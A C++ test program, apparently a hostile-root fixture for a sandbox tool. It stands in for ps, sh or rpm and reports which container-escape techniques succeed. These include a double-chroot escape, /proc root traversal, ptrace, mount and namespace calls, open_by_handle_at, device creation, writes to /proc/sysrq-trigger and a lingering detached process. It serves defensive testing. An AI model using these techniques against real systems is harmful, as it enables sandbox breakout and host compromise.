// The program that a hostile root has in the place of its ps, sh and rpm: it
// tries what leads out of a root, and prints one line per attempt that worked.
// Arguments: a secret file of the machine, a victim's pid, an abstract socket.
// Nothing that it does harms the machine, should a root let it out.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

std::string secret;
pid_t victim;
std::string listener;

bool readsSecret(const std::string& prefix) {
  const int file = open((prefix + secret).c_str(), O_RDONLY);
  if (file >= 0) close(file);
  return file >= 0;
}

bool opens(const char* path, int flags) {
  const int file = open(path, flags, 0600);
  if (file >= 0) close(file);
  return file >= 0;
}

bool secondChroot() {
  const int top = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("dev") != 0) return false;
  if (fchdir(top) != 0) return false;
  for (int i = 0; i < 64; ++i) {
    if (chdir("..") != 0) break;
  }
  return readsSecret(".");
}

bool manyParents() {
  std::string up = ".";
  for (int i = 0; i < 64; ++i) up += "/..";
  return readsSecret(up);
}

bool inheritedDescriptor() {
  for (int i = 0; i < 1024; ++i) {
    struct stat status;
    if (fstat(i, &status) != 0) continue;
    if (i > 2 && i != 3) return true;
    if (S_ISDIR(status.st_mode) || S_ISSOCK(status.st_mode)) return true;
    if (S_ISCHR(status.st_mode) && fchmod(i, 0666) == 0) return true;
  }
  return false;
}

bool processRoots() {
  if (readsSecret("/proc/" + std::to_string(victim) + "/root")) return true;
  for (int pid = 1; pid < 300; ++pid) {
    const std::string process = "/proc/" + std::to_string(pid);
    if (pid != getpid() && (readsSecret(process + "/root") || readsSecret(process + "/cwd"))) {
      return true;
    }
  }
  return false;
}

bool attaches(pid_t pid) {
  if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) != 0) return false;
  ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  return true;
}

bool mounts() {
  return mount("none", "/dev", "tmpfs", 0, nullptr) == 0 ||
         mount("none", "/proc", "proc", 0, nullptr) == 0 ||
         mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0 ||
         umount2("/dev", MNT_DETACH) == 0;
}

bool namespaces() {
  return unshare(CLONE_NEWUSER) == 0 || unshare(CLONE_NEWNS) == 0 ||
         syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr) >= 0;
}

bool fileByHandle() {
  struct {
    struct file_handle head;
    unsigned char bytes[8];
  } handle = {{8, 1, {}}, {2, 0, 0, 0, 0, 0, 0, 0}};
  const int top = open("/", O_RDONLY | O_DIRECTORY);
  return syscall(SYS_open_by_handle_at, top, &handle.head, O_RDONLY) >= 0;
}

bool signals() {
  rlimit limit = {1, 1};
  // Signal 0 only asks: where this works by mistake, it does no harm.
  return kill(victim, 0) == 0 || kill(-1, 0) == 0 ||
         setpriority(PRIO_PROCESS, static_cast<id_t>(victim), 19) == 0 ||
         syscall(SYS_prlimit64, victim, RLIMIT_CPU, &limit, nullptr) == 0;
}

bool connects(const std::string& name, bool abstract) {
  sockaddr_un address = {};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path + (abstract ? 1 : 0), name.data(), name.size());
  const int file = socket(AF_UNIX, SOCK_STREAM, 0);
  const auto length =
      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name.size() + (abstract ? 1 : 0));
  return file >= 0 && connect(file, reinterpret_cast<sockaddr*>(&address), length) == 0;
}

bool writesOutside() {
  return opens("/owned", O_WRONLY | O_CREAT) || opens("/canary", O_WRONLY) ||
         opens("/proc/sys/kernel/hostname", O_WRONLY) || opens("/proc/sysrq-trigger", O_WRONLY) ||
         chmod("/canary", 0777) == 0;
}

bool devices() {
  return mknod("/dev/disk", S_IFBLK | 0600, makedev(254, 0)) == 0 || opens("/device", O_RDONLY);
}

bool privileges() {
  return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1 || sethostname("ledgora-test", 12) == 0 ||
         prctl(PR_SET_PDEATHSIG, 0) == 0 || setuid(1234) == 0;
}

}  // namespace

int main(int argc, char** argv) {
  // As a container's server, to be asked for its version later.
  if (argc == 2 && std::strcmp(argv[1], "serve") == 0) {
    for (;;) pause();
  }
  // Without arguments (as ps or sh) the words come from a file of the root.
  if (argc >= 4 && argv[1][0] == '/') {
    secret = argv[1];
    victim = std::atoi(argv[2]);
    listener = argv[3];
  } else if (FILE* words = std::fopen("/intruder.conf", "re")) {
    char path[4096], name[108];
    if (std::fscanf(words, "%4095s %d %107s", path, &victim, name) != 3) return 1;
    secret = path;
    listener = name;
    std::fclose(words);
  }
  const struct {
    const char* what;
    bool worked;
  } attempts[] = {
      {"inherited descriptor", inheritedDescriptor()},
      {"secret by name", readsSecret("")},
      {"parents", manyParents()},
      {"roots of processes", processRoots()},
      {"ptrace", attaches(victim)},
      {"mount", mounts()},
      {"namespaces", namespaces()},
      {"file by handle", fileByHandle()},
      {"signals", signals()},
      {"abstract socket", connects(listener, true)},
      {"socket in the root", connects("/socket", false)},
      {"writing", writesOutside()},
      {"devices", devices()},
      {"privileges", privileges()},
      {"second chroot", secondChroot()},
  };
  for (const auto& attempt : attempts) {
    if (attempt.worked) std::printf("%s worked\n", attempt.what);
  }
  // To stay behind, in a session of its own; a fourth argument spares that.
  if (argc < 5 && fork() == 0) {
    setsid();
    for (;;) pause();
  }
  std::puts("tried");
}
